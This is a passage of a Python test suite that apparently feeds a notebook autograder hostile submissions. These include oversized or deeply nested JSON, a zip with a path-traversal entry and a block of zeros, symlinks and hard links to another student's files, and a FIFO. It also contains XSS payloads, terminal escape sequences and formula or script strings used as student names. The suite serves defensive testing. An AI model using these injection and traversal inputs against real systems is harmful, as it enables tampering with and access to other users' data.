    status="unreadable",
    alone=True,
    handed=refused_by(json.loads, (json.JSONDecodeError, "")),
)
def half_a_file(kit):
    return nbformat.writes(kit.notebook(RIGHT)).encode()[:1500]


@hostile(
    "nesting without end", status="unreadable", alone=True, handed=refused_by(json.loads, (RecursionError, "recursion"))
)
def deep_nesting(kit):
    return b'{"cells": ' + b"[" * 2_000_000 + b"]" * 2_000_000 + b"}"


@hostile(
    "a number without end",
    status="unreadable",
    alone=True,
    handed=refused_by(json.loads, (ValueError, "integer string conversion")),
)
def endless_number(kit):
    return b'{"cells": [], "nbformat": 4, "nbformat_minor": ' + b"9" * 2_000_000 + b"}"


@hostile("cells without end", status="unreadable", note="(cells)", alone=True)
def many_cells(kit):
    notebook = json.loads(nbformat.writes(kit.notebook(WRONG)))
    extra = {"cell_type": "raw", "metadata": {}, "source": ""}
    notebook["cells"] += [{**extra, "id": f"n{number}"} for number in range(5000)]
    return json.dumps(notebook).encode()


@hostile("a file too large to be read", status="unreadable", note="file_bytes", alone=True)
def large_notebook(kit):
    notebook = json.loads(nbformat.writes(kit.notebook(WRONG)))
    return json.dumps({**notebook, "metadata": {"x": "y" * 22_000_000}}).encode()


@hostile("code too long to be parsed", status="unreadable", note="code_chars")
def long_code(kit):
    return kit.notebook(WRONG, "a=1\n" * 400_000)


@hostile("code that is hard to parse", **unharmed(note="too many nested parentheses"))
def knotty_code(kit):
    knots = (
        "x = " + "(" * 5000,
        "-" * 100_000 + "1",
        "a" + ".b" * 30_000,
        "x = [" * 3000,
        "f'{" * 2000,
        "\\\n" * 50_000,
    )
    return kit.notebook(RIGHT, *(f"if False:\n    {knot}" for knot in knots))


@hostile(
    "text that is hard to search",
    **unharmed(handed=lambda folder: sum(len(cell["source"]) > 100_000 for cell in cells(folder)) == 5),
)
def knotty_text(kit):
    texts = ("double:" * 30_000, "double" + " " * 200_000, "def " * 50_000, "check(" * 30_000, "\n" * 200_000)
    return kit.notebook(RIGHT, *(f"'''\n{text}\n'''" for text in texts))


@hostile("text that no file can hold", **unharmed(note="surrogates not allowed"))
def broken_text(kit):
    text = nbformat.writes(kit.notebook(RIGHT, "raise ValueError('PLACE \\ud800')  # PLACE"))
    return text.replace("PLACE", "\\ud800").encode()


cell(
    "broken_answers: replies hold text that no file can hold",
    "import json\nget_ipython().kernel.session.pack = lambda message: json.dumps(message, default=str).encode()",
    {name: f"def {name}(x):\n    raise ValueError('\\ud800')" for name in WRONG},
    note="double raised ValueError: ?",
)


@hostile(
    "an archive in the notebook's place",
    status="unreadable",
    alone=True,
    handed=lambda folder: zipfile.is_zipfile(next(folder.glob("*.ipynb"))),
)
def archive(kit):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../../outside.txt", "x")
        file.writestr("zeros", bytes(20_000_000))
    return packed.getvalue()


@hostile("the notebook is a link to another student's", status="unreadable", note="is a link")
def linked_notebook(kit):
    (kit.folder / kit.neighbour.name).symlink_to(kit.neighbour)


@hostile("the folder is a link to another student's", status="unreadable", note="is a link")
def linked_folder(kit):
    kit.folder.rmdir()
    kit.folder.symlink_to(kit.neighbour.parent, target_is_directory=True)


@hostile(
    "the notebook is another name of a file outside",
    status="unreadable",
    alone=True,
    note="(a hard link)",
    handed=lambda folder: next(folder.glob("*.ipynb")).stat().st_nlink == 2,
)
def hard_link(kit):
    os.link(kit.outside / "canary.txt", kit.folder / kit.neighbour.name)


@hostile(
    "the notebook has a second name in the same folder",
    status="unreadable",
    note="(a hard link)",
    handed=lambda folder: (folder / "second.ipynb").samefile(next(folder.glob("mini.ipynb"))),
)
def own_second_name(kit):
    path = kit.folder / kit.neighbour.name
    path.write_bytes(json.dumps(kit.notebook(RIGHT)).encode())
    (kit.folder / "second.ipynb").hardlink_to(path)


@hostile(
    "the notebook is a pipe",
    status="unreadable",
    alone=True,
    handed=lambda folder: next(folder.glob("*.ipynb")).is_fifo(),
)
def pipe(kit):
    os.mkfifo(kit.folder / kit.neighbour.name)


@hostile(
    "the notebook is a folder",
    status="unreadable",
    alone=True,
    handed=lambda folder: next(folder.glob("*.ipynb")).is_dir(),
)
def folder(kit):
    (kit.folder / kit.neighbour.name).mkdir()


@hostile(
    "further files in the folder: modules, links, a page with a script",
    handed=lambda folder: len([path for path in folder.rglob("*") if path.is_file()]) == 5,
)
def further_files(kit):
    checking = (
        "import types\ndef points(value, **k):\n    def mark(f):\n"
        "        f.pytestmark = [types.SimpleNamespace(name='points', args=(value,))]\n        return f\n"
        "    return mark\n"
        "example = assert_close = assert_shape = lambda *a, **k: None\n"
    )
    (kit.folder / "grading").mkdir()
    (kit.folder / "grading" / "__init__.py").write_text("")
    (kit.folder / "grading" / "checking.py").write_text(checking)
    (kit.folder / "agent.py").write_text("answer = None")
    (kit.folder / "page.html").write_text("<script>document.title = 'ran'</script>")
    return kit.notebook(WRONG)


@hostile(
    "a timestamp that is none",
    alone=True,
    **unharmed(handed=lambda folder: "yesterday" in (folder / "timestamp.txt").read_text()),
)
def lying_timestamp(kit):
    (kit.folder / "timestamp.txt").write_text("yesterday, honestly")
    return kit.notebook(RIGHT)


SECTIONS.append("What others read")

SCRIPT = "<img src=x onerror=\"document.title='ran'\"><script>document.title='ran'</script>"


@hostile(
    "scripts in prose, code, comments and names",
    handed=lambda folder: sum(SCRIPT in cell["source"] for cell in cells(folder)) == 4,
)
def scripts_in_text(kit):
    notebook = kit.notebook({name: f"# {SCRIPT}\n{source}" for name, source in WRONG.items()})
    notebook.cells.insert(
        1, nbformat.v4.new_markdown_cell(SCRIPT + "\n\n[click](javascript:document.title='ran')", id="mine-9")
    )
    notebook.cells.append(nbformat.v4.new_raw_cell(SCRIPT, id="mine-10"))
    return notebook


@hostile("scripts in errors and warnings", note="<script>document.title")
def scripts_in_errors(kit):
    broken = f"raise type({SCRIPT[:70]!r}, (Exception,), {{}})({SCRIPT!r})"
    answers = {name: f"def {name}(x):\n    {broken}" for name in WRONG}
    return kit.notebook(answers, f"import warnings\nwarnings.warn({SCRIPT!r})", broken)


@hostile("scripts in outputs", **unharmed(inside="ended"))
def scripts_in_outputs(kit):
    shown = (
        "from IPython.display import HTML, Javascript, display\n"
        f"display(HTML({SCRIPT!r}))\ndisplay(Javascript('document.title=\"ran\"'))\nended = True"
    )
    notebook = kit.notebook(RIGHT, shown)
    notebook.cells[2].outputs = [nbformat.v4.new_output("display_data", {"text/html": SCRIPT})]
    return notebook


COMMANDS = "\x1b]0;mine\x07\x1b[2J\x9b31m\u202emdnu\u2066[red]red[/red]"


@hostile("commands to terminals in errors and warnings", note="raised ValueError: PLACE")
def commands_in_errors(kit):
    broken = f"raise ValueError('PLACE' + {COMMANDS!r})"
    answers = {name: f"def {name}(x):\n    {broken}" for name in WRONG}
    return kit.notebook(answers, f"import warnings\nwarnings.warn({COMMANDS!r})\nprint({COMMANDS!r})", broken)


@hostile(
    "commands to terminals in prose, code and comments",
    **unharmed(handed=lambda folder: sum(COMMANDS in cell["source"] for cell in cells(folder)) == 4),
)
def commands_in_text(kit):
    notebook = kit.notebook({name: f"{source}  # {COMMANDS}" for name, source in RIGHT.items()})
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(COMMANDS, id="mine-9"))
    notebook.cells.append(nbformat.v4.new_raw_cell(COMMANDS, id="mine-10"))
    return notebook


@hostile("a name that is a formula", student="=1+1", **unharmed(handed=lambda folder: folder.parent.name == "=1+1"))
def formula_as_name(kit):
    return kit.notebook(RIGHT)


@hostile(
    "a name that is a page",
    student="<script>document.title='ran'<",
    **unharmed(handed=lambda folder: folder.parent.name.startswith("<script>")),
)
def page_as_name(kit):
    return kit.notebook(RIGHT)
